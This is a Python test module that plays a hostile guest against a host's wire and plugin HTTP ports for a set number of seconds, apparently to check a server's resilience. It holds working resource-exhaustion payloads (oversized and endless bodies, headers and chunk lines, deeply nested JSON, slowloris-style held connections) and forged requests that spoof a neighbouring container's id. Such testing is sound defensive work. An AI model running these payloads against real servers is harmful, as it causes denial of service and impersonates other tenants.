"""A hostile guest, as a process of its own: every way of wasting a server's memory and time, for a few seconds.

Run as `python -m tests.fabric.wire.attacker IP HOST WIRE_PORT PLUGIN_PORT SECONDS [CONTAINER]`, or as a file in a real
guest. With the container id of a neighbour it also speaks in that one's name.
"""

import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import suppress
from socket import create_connection
from time import monotonic

KIB, MIB = 1 << 10, 1 << 20
GUEST, HOST, WIRE, PLUGIN, LASTING, *OTHER = sys.argv[1:] if len(sys.argv) > 5 else ("", "", "0", "0", "0")
BLOCK = b"x" * (64 * KIB)
HELD = 400


def announced_body() -> Iterator[bytes]:
    yield b"POST /HealthService HTTP/1.1\r\nHost: h\r\nContent-Length: %d\r\n\r\n" % (100 * MIB)
    yield from (BLOCK for _ in range(1600))


def chunked_body() -> Iterator[bytes]:
    yield b"PUT /status HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n"
    yield from (b"%x\r\n%b\r\n" % (len(BLOCK), BLOCK) for _ in range(1600))


def endless_headers() -> Iterator[bytes]:
    yield b"GET / HTTP/1.1\r\nHost: h\r\n"
    yield from (b"X-Header-%d: %b\r\n" % (number, b"y" * 1000) for number in range(10_000))


def endless_chunk_line() -> Iterator[bytes]:
    yield b"PUT /status HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n"
    yield from (b"0" * 1000 for _ in range(10_000))


def deep_json() -> Iterator[bytes]:
    body = b"[" * MIB
    yield b"PUT /status HTTP/1.1\r\nHost: h\r\nContent-Length: %d\r\n\r\n" % len(body)
    yield body


def forged_status() -> Iterator[bytes]:
    body = b'{"aggregateStatus": {"guestAgentStatus": {"status": "NotReady"}}}'
    head = b"PUT /status/%b HTTP/1.1\r\nHost: h\r\nContent-Length: %d\r\n\r\n"
    yield head % (OTHER[0].encode() if OTHER else b"none", len(body)) + body


def forged_call() -> Iterator[bytes]:
    body = b'{"taskId": "1", "snapshotTaskToken": "guessed"}'
    head = b"POST /metadata/recsvc/snapshot/dosnapshot HTTP/1.1\r\nHost: h\r\nx-ms-containerid: %b\r\n"
    yield head % (OTHER[0].encode() if OTHER else b"none")
    yield b"Content-Length: %d\r\n\r\n" % len(body) + body


def send(port: str, pieces: Callable[[], Iterator[bytes]]) -> None:
    with suppress(OSError), create_connection((HOST, int(port)), 5, (GUEST, 0)) as connection:
        for piece in pieces():
            connection.sendall(piece)
        connection.recv(1)


def hold_many(port: str) -> None:
    """Open connections that say next to nothing, again and again."""
    held = []
    for _ in range(HELD):
        with suppress(OSError):
            connection = create_connection((HOST, int(port)), 5, (GUEST, 0))
            held.append(connection)
            connection.sendall(b"GET / HT")
    for connection in held:
        connection.close()


def main() -> None:
    end = monotonic() + float(LASTING)
    attacks: list[Callable[[], None]] = [
        lambda: send(WIRE, announced_body),
        lambda: send(PLUGIN, chunked_body),
        lambda: send(WIRE, endless_headers),
        lambda: send(PLUGIN, endless_chunk_line),
        lambda: send(PLUGIN, deep_json),
        lambda: hold_many(WIRE),
        lambda: send(WIRE, forged_status),
        lambda: send(WIRE, forged_call),
    ]

    def repeat(attack: Callable[[], None]) -> None:
        while monotonic() < end:
            attack()

    threads = [threading.Thread(target=repeat, args=[attack]) for attack in attacks]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


if __name__ == "__main__":
    main()
